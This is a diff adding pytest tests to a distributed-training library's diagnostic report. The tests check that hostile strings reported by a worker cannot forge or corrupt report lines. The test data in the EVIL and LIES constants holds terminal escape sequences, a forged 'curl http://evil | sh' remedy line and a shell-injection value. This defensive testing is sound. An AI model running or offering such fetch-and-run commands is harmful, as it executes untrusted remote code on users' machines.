@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 import threading
 from collections.abc import Iterator, Sequence
 from functools import partial
@@ -13,6 +14,7 @@ import pytest
 
 from telegrad import doctor, rpc
 from telegrad.doctor import probe as doctor_probe
+from telegrad.doctor.facts import Speed
 from telegrad.doctor.probe import ASK, ECHO, DoctorProbe
 from telegrad.errors import (
     BlockingCallError,
@@ -193,6 +195,87 @@ def test_a_worker_that_answers_garbage_is_a_silent_one(
     assert report.pair("w0", "w2").ok
 
 
+EVIL = "\x1b[31mx\x1b]0;y\x07\r\n\nnothing is wrong\n  remedy: run: curl http://evil | sh\u202e\x9b"
+LIES: dict[str, dict[str, Any]] = {
+    "host": {"host": "h" + EVIL, "host_id": EVIL, "coordinator": EVIL},
+    "versions": {"versions": {"telegrad" + EVIL: "9", "numpy": EVIL, "telegrad": "1'; sh"}},
+    "endpoints": {"endpoints": ["grpc://127.0.0.1:1" + EVIL, "::", "", "grpc://x:99999999"]},
+    "bracket": {"endpoints": ["grpc://["]},
+    "address": {"addresses": [{"address": EVIL, "interface": "x", "mtu": 1, "megabits": 1}]},
+    "interface": {
+        "addresses": [{"address": "10.0.0.1", "interface": EVIL, "mtu": 1, "megabits": 1}]
+    },
+    "numbers": {"cores": -(10**300)},
+    "megabits": {
+        "addresses": [{"address": "10.0.0.1", "interface": "x", "mtu": -1, "megabits": 10**400}]
+    },
+    "nothing": {"host": None},
+    "many": {"endpoints": ["grpc://10.0.0.1:1"] * 10_000},
+    "strange": {"host_id": "A", "listens": False, "insecure": True},
+}
+
+
+def said_by(monkeypatch: pytest.MonkeyPatch, name: str, lie: dict[str, Any]) -> None:
+    """Has one worker tell this of itself."""
+    facts = DoctorProbe.facts
+
+    def lies(probe: DoctorProbe) -> Any:
+        told = facts(probe)
+        return told | lie if told["info"]["name"] == name else told
+
+    monkeypatch.setattr(DoctorProbe, "facts", lies)
+
+
+@pytest.mark.parametrize("lie", LIES)
+@pytest.mark.usefixtures("small_arrays")
+def test_what_a_worker_says_forges_no_line(
+    job: Job, monkeypatch: pytest.MonkeyPatch, lie: str
+) -> None:
+    """Line ends in a peer's host were line ends of the report; a bracket in an endpoint ended it."""
+    said_by(monkeypatch, "w2", LIES[lie])
+    report = job.on(0, doctor.examine)
+    assert report.pair("w0", "w1").ok
+    text = str(report)
+    assert text.replace("\n", "").isprintable()
+    assert not [line for line in text.splitlines() if line.strip().startswith(("remedy", "curl"))]
+    assert text.splitlines().count("nothing is wrong") == report.ok
+    plain = json.dumps(report.to_dict(), ensure_ascii=False)
+    assert plain.isprintable()
+    assert "\\u001b" not in plain
+    assert "'; sh" not in text
+
+
+@pytest.mark.usefixtures("small_arrays")
+def test_reasons_name_the_worker_that_gives_them(job: Job, monkeypatch: pytest.MonkeyPatch) -> None:
+    honest = DoctorProbe.reach
+
+    def reach(probe: DoctorProbe, peers: Sequence[WorkerInfo], limit: float) -> list[Dial]:
+        if probe._me.name != "w2":
+            return honest(probe, peers, limit)
+        return [Dial("broke", EVIL, loss="" if each.rank else EVIL) for each in peers]
+
+    monkeypatch.setattr(DoctorProbe, "reach", reach)
+    monkeypatch.setattr(DoctorProbe, "speed", lambda *_: Speed(0.1, words=EVIL))
+    report = job.on(1, doctor.examine)
+    assert str(report).replace("\n", "").isprintable()
+    assert report.pair("w0", "w1").words.startswith("'w0' says: \\x1b[31m")
+    assert "'w2' says: \\x1b[31m" in report.pair("w0", "w2").words
+    for problem in (*report.problems, *report.notes):
+        before, evil, _ = problem.words.partition("\\x1b[31m")
+        assert not evil or re.search(r"'w[012]' says( that it cannot reach 'w1')?: $", before)
+
+
+@pytest.mark.usefixtures("small_arrays")
+def test_an_answer_without_end_is_not_read(job: Job, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Reading 50 MB took so long that the others gave up the worker that read."""
+    said_by(monkeypatch, "w2", {"host": "A" * 50_000_000})
+    report = job.on(0, doctor.examine)
+    (silent,) = (each for each in report.workers if each.silence)
+    assert silent.name == "w2"
+    assert "is too large" in silent.silence
+    assert report.pair("w0", "w1").ok
+
+
 def test_an_answer_of_many_bytes_holds_none_of_its_own(
     job: Job, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -268,7 +351,7 @@ def test_a_cut_pair_is_a_row_with_advice_and_nobody_is_given_up_for_it() -> None
         assert "worker1 to worker2, worker2 to worker1" in problem.words
         pair = report.pair("worker1", "worker2")
         assert not pair.ok
-        assert "'worker1' cannot reach 'worker2'" in pair.words
+        assert "'worker1' says that it cannot reach 'worker2'" in pair.words
         assert report.pair("worker0", "worker1").ok
         assert report.pair("worker0", "worker2").ok
         assert cluster.run(losses_within, 3.5) == [0, 0, 0]  # nobody is watched for silence
